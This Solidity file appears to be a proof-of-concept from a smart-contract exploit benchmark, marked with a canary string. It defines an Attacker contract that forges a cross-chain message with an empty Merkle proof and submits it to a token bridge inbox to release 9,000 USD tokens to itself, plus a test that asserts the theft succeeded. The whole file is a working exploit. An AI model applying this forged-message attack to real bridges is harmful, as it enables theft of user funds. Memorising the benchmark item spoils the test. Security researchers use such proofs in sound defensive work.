// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    function run(address usd) external {
        ITokenGateway.Transfer memory transfer;
        (transfer.recipient, transfer.amount) = (address(this), 9_000e6);
        transfer.home = ITokenGateway.Home(11, usd);
        bytes32[32] memory siblings;
        Messages.Message memory message = Messages.Message(
            22, 11, 7, address(away.gateway), address(home.gateway), 0, 400_000, abi.encode(transfer)
        );
        try home.inbox.process(message, siblings, 0) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker(home, away, watchers, returning);
    }

    function exploit() public {
        other.run(address(usd));
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 9_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(home.inbox);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
